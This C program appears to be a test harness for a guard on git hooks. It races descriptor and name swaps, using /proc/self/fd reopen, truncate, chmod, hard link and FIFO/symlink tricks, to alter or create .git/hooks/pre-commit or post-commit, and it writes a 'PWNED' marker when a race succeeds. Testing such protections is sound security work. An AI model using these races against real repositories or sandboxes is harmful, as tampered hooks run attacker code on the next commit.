// Races against whoever looks at a descriptor or a name twice: what it was judged as and what is used are then two files.
// usage: descriptors KIND BASE SECONDS     prints `won` as soon as the protected hook was changed, else `tries N` at the end
//   reopen   a descriptor flips between a harmless file and the hook while /proc/self/fd/N is opened for writing
//   cut      the same, while it is truncated by opening and by path
//   mode     the same, while its mode is changed
//   link     the same, while it gets a second name
//   fifo     a name flips between a FIFO and a link to the hook while it is opened for writing
//   fifo-new the same, with a link to a hook that isn't there
#define _GNU_SOURCE
#include <fcntl.h>
#include <pthread.h>
#include <stdatomic.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

#define HOOK ".git/hooks/pre-commit"
#define ABSENT ".git/hooks/post-commit"

enum { NUMBER = 100 };

static atomic_int stop;
static int harmless = -1, hook = -1;
static struct stat wanted;

static double now(void) {
    struct timespec t;
    clock_gettime(CLOCK_MONOTONIC, &t);
    return (double)t.tv_sec + (double)t.tv_nsec / 1e9;
}

static void *flip_descriptor(void *unused) {
    (void)unused;
    while (!stop) {
        dup2(harmless, NUMBER);
        dup2(hook, NUMBER);
    }
    return NULL;
}

static void *flip_fifo(void *target) {
    while (!stop) {
        unlink("next");
        if (link("fifo", "next") == 0) rename("next", "swap");
        unlink("next");
        if (symlink(target, "next") == 0) rename("next", "swap");
    }
    return NULL;
}

// Now and then there is a reader, so that who opens the FIFO for writing has to wait, but not for ever.
static void *read_fifo(void *unused) {
    (void)unused;
    while (!stop) {
        int fd = open("fifo", O_RDONLY | O_NONBLOCK);
        usleep(50);
        if (fd >= 0) close(fd);
        usleep(50);
    }
    return NULL;
}

static const char *descriptor_path(unsigned turn) {
    static char own[64];
    static const char *const PATHS[] = {"/proc/self/fd/100", "/dev/fd/100", "/proc/thread-self/fd/100", own, "/proc/self/./fd/100"};
    snprintf(own, sizeof own, "/proc/%d/fd/100", (int)getpid());
    return PATHS[turn % 5];
}

static int is_hook(int fd) {
    struct stat s;
    return fd >= 0 && fstat(fd, &s) == 0 && s.st_ino == wanted.st_ino && s.st_dev == wanted.st_dev;
}

static int try_reopen(unsigned turn) {
    static const int FLAGS[] = {O_WRONLY, O_RDWR, O_WRONLY | O_CREAT, O_WRONLY | O_APPEND};
    int fd = open(descriptor_path(turn), FLAGS[turn % 4], 0755), won = is_hook(fd) && write(fd, "PWNED\n", 6) == 6;
    if (fd >= 0) close(fd);
    return won;
}

static int try_cut(unsigned turn) {
    struct stat s;
    if (turn % 3 == 0) {
        if (truncate(descriptor_path(turn), 0) != 0) turn++;
    } else {
        int fd = open(descriptor_path(turn), (turn % 3 == 1 ? O_RDONLY : O_WRONLY) | O_TRUNC);
        if (fd >= 0) close(fd);
    }
    return stat(HOOK, &s) == 0 && s.st_size == 0;
}

static int try_mode(unsigned turn) {
    struct stat s;
    if (turn % 2 == 0) fchmod(NUMBER, 0755);
    else chmod(descriptor_path(turn), 0755);
    return stat(HOOK, &s) == 0 && (s.st_mode & 0111) != 0;
}

static int try_link(unsigned turn) {
    struct stat s;
    unlink("copy");
    linkat(AT_FDCWD, descriptor_path(turn), AT_FDCWD, "copy", AT_SYMLINK_FOLLOW);
    return stat("copy", &s) == 0 && s.st_ino == wanted.st_ino;
}

static int try_fifo(unsigned turn) {
    int fd = open("swap", O_WRONLY | (turn % 2 ? O_CREAT : 0), 0755);
    struct stat s;
    int won = (is_hook(fd) && write(fd, "PWNED\n", 6) == 6) || stat(ABSENT, &s) == 0;
    if (fd >= 0) close(fd);
    return won;
}

int main(int argc, char **argv) {
    if (argc != 4 || chdir(argv[2]) != 0) return 2;
    const char *kind = argv[1];
    double end = now() + atof(argv[3]);
    void *(*flip)(void *) = flip_descriptor;
    int (*attempt)(unsigned) = NULL;
    void *with = NULL;
    harmless = open("harmless", O_RDWR | O_CREAT, 0644);
    hook = open(HOOK, O_RDONLY);
    if (harmless < 0 || hook < 0 || fstat(hook, &wanted) != 0) return 3;
    if (strcmp(kind, "reopen") == 0) attempt = try_reopen;
    else if (strcmp(kind, "cut") == 0) attempt = try_cut;
    else if (strcmp(kind, "mode") == 0) attempt = try_mode;
    else if (strcmp(kind, "link") == 0) attempt = try_link;
    else if (strcmp(kind, "fifo") == 0) attempt = try_fifo, flip = flip_fifo, with = HOOK;
    else if (strcmp(kind, "fifo-new") == 0) attempt = try_fifo, flip = flip_fifo, with = ABSENT;
    else return 2;
    pthread_t flipper, reader;
    if (flip == flip_fifo && mkfifo("fifo", 0666) != 0) return 4;
    if (pthread_create(&flipper, NULL, flip, with) != 0) return 4;
    if (flip == flip_fifo && pthread_create(&reader, NULL, read_fifo, NULL) != 0) return 4;
    unsigned tries = 0;
    int won = 0;
    for (; !won && now() < end; tries++) won = attempt(tries);
    printf(won ? "won after %u\n" : "tries %u\n", tries);
    fflush(stdout);
    // Threads that still wait for a FIFO end with the process.
    _exit(0);
}
